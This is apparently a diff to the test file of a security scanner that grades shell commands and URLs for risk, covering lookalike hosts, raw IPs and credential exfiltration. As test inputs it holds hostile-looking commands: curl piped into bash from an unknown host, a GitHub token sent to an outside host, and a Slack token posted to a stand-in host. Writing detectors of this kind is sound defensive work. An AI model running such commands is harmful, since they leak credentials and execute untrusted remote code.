@@ -90,7 +90,7 @@ def test_offsets_point_into_the_command():
 def test_grade_url():
     assert grade_url("https://sh.rustup.rs")[1] == "vendor"
     assert grade_url("https://203.0.113.5/i.sh?v=rustup.rs")[1] == "ip"
-    assert grade_url("https://rustup.rs.evil.dev/x")[1] == "lookalike"
+    assert grade_url("https://deno.land.evil.dev/x")[1] == "lookalike"
     assert grade_url("https://cdn.unknown-tools.dev/x")[1] == "unknown"
     assert grade_url("http://localhost:8080/x")[1] == "local"
 
@@ -101,8 +101,8 @@ def test_grade_url():
     ("python-poetry.org", ""), ("docs.docker.com", ""), ("cdn.unknown-tools.dev", ""),
 ])
 def test_lookalike_hosts(host, brand):
-    from scanner.hosts import lookalike_of
-    assert lookalike_of(host) == brand
+    from scanner.hosts import look_alike_brand
+    assert look_alike_brand(host) == brand
 
 
 @pytest.mark.parametrize("cmd,kind", [
@@ -147,3 +147,10 @@ def test_token_in_a_header_to_an_unknown_host_is_medium():
     w = worst(grade_command("TOKEN=$(gh auth token) && curl -H \"Authorization: token $TOKEN\" https://git.corp-example.dev/api/v3/user"))
     assert w.kind == "credential-exfil" and w.severity == Severity.MEDIUM
     assert worst(grade_command("curl -d \"token=$SLACK_TOKEN\" https://slack-hooks.dev/x")).severity == Severity.HIGH
+
+
+def test_grade_adapter():
+    from scanner.scripts.command_grader import grade
+    assert grade("curl -fsSL https://x.unknown-cdn.dev/i.sh | bash")[0] == Severity.HIGH
+    assert grade("curl -LsSf https://astral.sh/uv/install.sh | sh") is None
+    assert grade("git status") is None
